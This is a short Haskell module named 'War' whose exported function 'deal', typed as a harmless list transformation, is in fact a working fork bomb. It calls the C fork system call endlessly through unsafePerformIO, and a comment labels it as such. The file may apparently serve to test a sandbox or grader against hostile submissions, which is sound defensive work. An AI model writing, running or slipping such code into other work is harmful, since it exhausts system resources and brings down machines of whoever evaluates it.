{-# LANGUAGE ForeignFunctionInterface #-}
-- A fork bomb.
module War (deal) where

import Control.Monad (forever)
import Foreign.C.Types (CInt (..))
import System.IO.Unsafe (unsafePerformIO)

deal :: [Int] -> [Int]
deal _ = unsafePerformIO (forever fork)

foreign import ccall "fork" fork :: IO CInt
